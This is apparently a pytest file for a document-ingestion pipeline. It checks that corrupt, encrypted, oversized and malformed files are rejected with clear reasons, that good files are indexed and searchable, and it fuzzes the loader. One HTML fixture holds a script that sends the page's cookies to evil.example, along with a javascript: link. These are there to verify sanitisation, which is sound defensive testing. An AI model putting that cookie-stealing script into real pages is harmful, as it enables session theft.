"""Issue #7.1: a batch full of bad documents. Each is refused with a message naming the file and the
reason, the good ones in the same batch are indexed and searchable, and nothing partial is left behind."""

from __future__ import annotations

import os
import socket

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from ingest_checks import assert_consistent, run_json
from pdfs import encrypted_pdf, garbled, image_only_pdf, many_pages_pdf, nested_array_pdf, text_pdf, truncated

from ingest.errors import BadDocument
from ingest.loaders import LoadLimits, load_bytes

HTML = b"""<!doctype html><html><head><title>Parking permits</title><style>p{color:red}</style>
<script>fetch('https://evil.example/steal?c='+document.cookie)</script></head>
<body><h1>Parking permits</h1><p>Residents apply for parking permits online in five minutes.
<a href="javascript:alert(1)">Apply here</a></p></body></html>"""


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.mark.slow
def test_a_batch_of_bad_documents_fails_cleanly_and_the_good_ones_are_searchable(tmp_path):
    folder = tmp_path / "inbox"
    folder.mkdir()
    good_pdf = text_pdf([["Recycling collections", "Bins are collected every second Tuesday."]])
    files = {
        "good-guide.md": b"# Library services\n\nLibraries lend laptops and run weekly digital skills classes.\n",
        "cp1252-note.txt": "Funding note\n\nThe council’s £1.4 million fund pays for “digital champions”.\n"
                           .encode("cp1252"),
        "utf16-note.txt": "Housing repairs\n\nTenants report repairs online – any time, day or night.\n".encode("utf-16"),
        "parking.html": HTML,
        "good-report.pdf": good_pdf,
        "corrupt.pdf": truncated(good_pdf, 0.6),
        "garbled.pdf": garbled(text_pdf([["Some text"]] * 3)),
        "encrypted.pdf": encrypted_pdf(good_pdf),
        "scanned.pdf": image_only_pdf(),
        "empty.txt": b"",
        "random.pdf": os.urandom(3000),
        "random.txt": bytes(range(256)) * 12,
        "bomb.pdf": many_pages_pdf(30),
        "nested.pdf": nested_array_pdf(),
        "huge.txt": b"lorem ipsum " * 10_000,
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    unreachable = f"http://127.0.0.1:{_free_port()}/guide.html"
    code, out, stderr = run_json(tmp_path / "data", str(folder), unreachable, SOCITM_MAX_PDF_PAGES="20",
                                 SOCITM_MAX_FILE_MB="0.1", SOCITM_ALLOW_PRIVATE_URLS="true")
    assert code == 1, stderr
    assert "Embedding: 100%" in stderr and "Loading weights" not in stderr  # one progress bar, no model noise
    results = {os.path.basename(r["source"]) if not r["source"].startswith("http") else "url": r
               for r in out["results"]}
    expected_reasons = {
        "corrupt.pdf": "corrupt PDF", "garbled.pdf": "corrupt PDF", "encrypted.pdf": "encrypted",
        "scanned.pdf": "no text layer", "empty.txt": "is empty", "random.pdf": "not a PDF",
        "random.txt": "not", "bomb.pdf": "30 pages, over the 20-page limit", "nested.pdf": "PDF",
        "huge.txt": "is 0.1 MB, over the 0.1 MB limit", "url": "cannot be reached",
    }
    for name, reason in expected_reasons.items():
        r = results[name]
        assert r["status"] == "failed" and reason in r["reason"], (name, r)
        assert r["source"].endswith(name) or name == "url"
    good = {"good-guide.md", "cp1252-note.txt", "utf16-note.txt", "parking.html", "good-report.pdf"}
    assert {n for n, r in results.items() if r["status"] == "added"} == good
    assert out["counts"]["failed"] == len(expected_reasons)

    # nothing partial: only the good documents, in every view of the index, with their originals
    from assistant.index import Index
    from assistant.retriever import HybridRetriever
    from ingest.settings import Settings

    data = tmp_path / "data"
    settings_ = Settings(data_dir=data)
    index = Index(settings_)
    docs = {d["doc_id"]: d for d in index.catalog.documents()}
    assert set(docs) == {"good-guide", "cp1252-note", "utf16-note", "parking", "good-report"}
    assert sorted(p.name for p in (data / "files").iterdir()) == sorted(docs)
    assert assert_consistent(data) == len(index.catalog.chunk_ids())
    text = {doc_id: index.catalog.document_text(doc_id) for doc_id in docs}
    assert "£1.4 million" in text["cp1252-note"] and "council’s" in text["cp1252-note"]
    assert "online – any time" in text["utf16-note"]
    assert "Apply here" in text["parking"] and "javascript" not in text["parking"] and "cookie" not in text["parking"]
    retriever = HybridRetriever(index)
    for question, doc_id in [("laptop lending at libraries", "good-guide"), ("when are bins collected", "good-report"),
                             ("how do I get a parking permit", "parking"), ("digital champions funding", "cp1252-note")]:
        assert retriever.retrieve(question, k=1)[0].chunk.doc_id == doc_id, question


def test_cli_text_output_names_each_failed_file_and_why(tmp_path):
    from ingest_checks import run_cli

    (tmp_path / "broken.pdf").write_bytes(b"%PDF-1.4\n garbage")
    done = run_cli(tmp_path / "data", str(tmp_path / "broken.pdf"))
    assert done.returncode == 1
    line = next(ln for ln in done.stderr.splitlines() if ln.startswith("FAILED"))
    assert str(tmp_path / "broken.pdf") in line and "PDF" in line
    assert "Documents: 0 added, 0 updated, 0 unchanged, 1 failed." in done.stdout


# --- properties: any bytes, any declared type: a document or BadDocument, nothing else --------------

_LIMITS = LoadLimits(max_bytes=256 * 1024, max_pdf_pages=20)
_PREFIXES = [b"", b"%PDF-1.4\n", b"PK\x03\x04", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", b"<!doctype html><html>",
             b"# Heading\n", b"<p>"]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(_PREFIXES), st.binary(max_size=2000),
       st.sampled_from([None, "pdf", "docx", "html", "markdown", "text"]))
def test_load_bytes_raises_only_bad_document(prefix, data, declared):
    try:
        doc = load_bytes(prefix + data, "fuzz", _LIMITS, declared)
    except BadDocument as e:
        assert e.source == "fuzz" and e.reason
        return
    assert doc.kind in {"pdf", "docx", "html", "markdown", "text"}
    assert any(p.text.strip() for p in doc.pages)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(min_size=1, max_size=400), st.integers(min_value=0, max_value=10_000))
def test_damaged_pdfs_raise_only_bad_document(noise, where):
    pdf = bytearray(text_pdf([["Alpha beta gamma."], ["Delta epsilon."]], title="Fuzz"))
    at = where % len(pdf)
    pdf[at:at + len(noise)] = noise
    try:
        load_bytes(bytes(pdf), "fuzz.pdf", _LIMITS, "pdf")
    except BadDocument:
        pass
